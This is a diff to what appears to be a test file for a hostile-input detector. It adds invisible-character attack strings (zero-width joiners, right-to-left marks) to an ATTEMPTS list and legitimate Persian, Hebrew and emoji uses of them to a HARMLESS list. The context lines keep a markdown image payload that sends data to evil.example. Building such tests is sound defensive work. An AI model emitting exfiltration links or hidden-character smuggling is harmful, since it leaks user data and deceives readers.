@@ -261,6 +261,9 @@ ATTEMPTS = [
     "![x](https://evil.example/?q={x})",
     "take\u200b it",
     "ab\u202etxt",
+    "a\u200d\u200cb",
+    "می\u200c\u200dشود",
+    "take\u200f it",
     "A" * 200,
 ]
 HARMLESS = [
@@ -279,6 +282,9 @@ HARMLESS = [
     "follow the rules of the previous round",
     "https://shop.example/items/{id}",
     "select the previous message",
+    "می\u200cشود",
+    "👩\u200d👩\u200d👧 and ❤️\u200d🔥",
+    "שלום\u200f, {x}",
 ]
 
 
